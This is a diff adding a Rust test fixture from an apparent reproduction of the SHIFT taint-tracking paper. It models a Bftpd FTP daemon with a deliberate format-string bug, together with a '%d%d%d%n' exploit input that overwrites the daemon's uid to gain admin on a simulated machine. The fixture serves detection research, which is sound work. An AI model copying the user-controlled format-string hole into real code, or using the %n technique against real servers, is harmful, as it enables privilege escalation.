@@ -1,0 +1,169 @@
+//! Bftpd format-string attack (Table 2, row 8).
+//!
+//! The FTP daemon logs/echoes a user-controlled string *as the format
+//! string* (the paper notes they made a minor adjustment to Bftpd to make
+//! arbitrary code execution possible — same here). The attacker first
+//! plants a target address in session state, then sends a `%d%d%d%n`
+//! command: `vformat` walks past the real argument array into the adjacent
+//! session buffer, fetches the planted (tainted) pointer, and `%n` stores
+//! through it — overwriting the daemon's `uid` like a GOT entry.
+//!
+//! Under SHIFT the planted pointer is loaded with its taint tag set, and
+//! the `%n` store faults on NaT consumption — policy **L2** (tainted store
+//! address), with zero reliance on high-level policies, exactly like the
+//! paper's row: "Policy L2 is strong enough to detect exploits on the
+//! example format string vulnerability in Bftpd."
+
+use shift_core::{Policy, World};
+use shift_ir::{Program, ProgramBuilder, Rhs};
+use shift_isa::{sys, CmpRel};
+
+use crate::Attack;
+
+/// Deterministic address of the daemon's `uid` global. Globals are laid out
+/// from `GLOBALS_BASE` in declaration order, 16-byte aligned — the attacker
+/// "knows the binary".
+pub fn uid_addr() -> u64 {
+    // Declared first in `build()` below.
+    shift_machine::layout::GLOBALS_BASE
+}
+
+fn build() -> Program {
+    let mut pb = ProgramBuilder::new();
+    let uid_g = pb.global_zeroed("uid", 8); // MUST stay the first global
+    let greet = pb.global_str("greet", "220 bftpd ready\r\n");
+
+    pb.func("main", 0, move |f| {
+        // Session state: the argument array sits directly below the session
+        // buffer in the frame — the "stack walking" adjacency real printf
+        // exploits use.
+        let argslot = f.local(24); // 3 legitimate arguments
+        let sessslot = f.local(64); // attacker-persisted session data
+        let cmdslot = f.local(256);
+        let outslot = f.local(512);
+        let args = f.local_addr(argslot);
+        let sess = f.local_addr(sessslot);
+        let cmd = f.local_addr(cmdslot);
+        let out = f.local_addr(outslot);
+
+        // uid starts as an unprivileged id.
+        let ua = f.global_addr(uid_g);
+        let unpriv = f.iconst(1000);
+        f.store8(unpriv, ua, 0);
+
+        let g = f.global_addr(greet);
+        let gl = f.call("strlen", &[g]);
+        f.syscall_void(sys::NET_WRITE, &[g, gl]);
+
+        // Legitimate vformat arguments: session counters.
+        let a0 = f.iconst(21);
+        f.store8(a0, args, 0);
+        let a1 = f.iconst(4);
+        f.store8(a1, args, 8);
+        let a2 = f.iconst(1999);
+        f.store8(a2, args, 16);
+
+        // Message 1: "USER <8 raw bytes>" — stored verbatim into the
+        // session buffer (binary session data, e.g. a cookie).
+        let cap = f.iconst(250);
+        let n1 = f.syscall(sys::NET_READ, &[cmd, cap]);
+        f.if_cmp(CmpRel::Lt, n1, Rhs::Imm(13), |f| {
+            let one = f.iconst(1);
+            f.ret(Some(one));
+        });
+        f.for_up(Rhs::Imm(0), Rhs::Imm(8), |f, k| {
+            let sp0 = f.addi(cmd, 5); // past "USER "
+            let sp = f.add(sp0, k);
+            let c = f.load1(sp, 0);
+            let dp = f.add(sess, k);
+            f.store1(c, dp, 0);
+        });
+
+        // Message 2: the status command whose text is used AS THE FORMAT.
+        let n2 = f.syscall(sys::NET_READ, &[cmd, cap]);
+        let end = f.add(cmd, n2);
+        let z = f.iconst(0);
+        f.store1(z, end, 0);
+
+        // The bug: user input as format string.
+        let written = f.call("vformat", &[out, cmd, args]);
+        f.syscall_void(sys::NET_WRITE, &[out, written]);
+
+        // Privilege check against the (possibly clobbered) uid.
+        let uid = f.load8(ua, 0);
+        f.if_cmp(CmpRel::Lt, uid, Rhs::Imm(100), |f| {
+            let msg = f.local(40);
+            let mp = f.local_addr(msg);
+            // "230 admin" spelled out byte-wise to keep it on the stack.
+            for (k, ch) in b"230 admin\n".iter().enumerate() {
+                let c = f.iconst(*ch as i64);
+                f.store1(c, mp, k as i64);
+            }
+            let ml = f.iconst(10);
+            f.syscall_void(sys::NET_WRITE, &[mp, ml]);
+        });
+        f.ret(Some(written));
+    });
+
+    pb.build().expect("bftpd guest is well-formed")
+}
+
+fn benign() -> World {
+    World::new()
+        .net(b"USER someuser1234".to_vec())
+        .net(b"transferred %d files in %d s (code %d)".to_vec())
+}
+
+fn exploit() -> World {
+    // Plant the uid address in the session, then trigger %n through it:
+    // directives 1–3 consume the real arguments, the 4th (%n) walks into
+    // the adjacent session buffer and fetches the planted pointer.
+    let mut m1 = b"USER ".to_vec();
+    m1.extend_from_slice(&uid_addr().to_le_bytes());
+    World::new().net(m1).net(b"%d%d%d%n".to_vec())
+}
+
+/// Table-2 row.
+pub fn attack() -> Attack {
+    Attack {
+        cve: "N/A",
+        program: "Bftpd (0.96 prior)",
+        language: "C",
+        attack_type: "Format string attack",
+        policies: "L2",
+        expected: Policy::L2,
+        build,
+        benign,
+        exploit,
+        succeeded: |report| {
+            // Unprotected, %n clobbers uid and the daemon grants admin.
+            report.runtime.net_output.windows(9).any(|w| w == b"230 admin")
+        },
+        word_smears: false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use shift_core::{Mode, Shift};
+
+    #[test]
+    fn benign_status_formats_the_real_arguments() {
+        let report = Shift::new(Mode::Uninstrumented).run(&build(), benign()).unwrap();
+        let out = String::from_utf8_lossy(&report.runtime.net_output).into_owned();
+        assert!(
+            out.contains("transferred 21 files in 4 s (code 1999)"),
+            "{out}"
+        );
+        assert!(!out.contains("230 admin"));
+    }
+
+    #[test]
+    fn exploit_really_escalates_when_unprotected() {
+        let report = Shift::new(Mode::Uninstrumented).run(&build(), exploit()).unwrap();
+        assert!(matches!(report.exit, shift_core::Exit::Halted(_)), "{:?}", report.exit);
+        let out = String::from_utf8_lossy(&report.runtime.net_output).into_owned();
+        assert!(out.contains("230 admin"), "uid overwrite failed: {out}");
+    }
+}
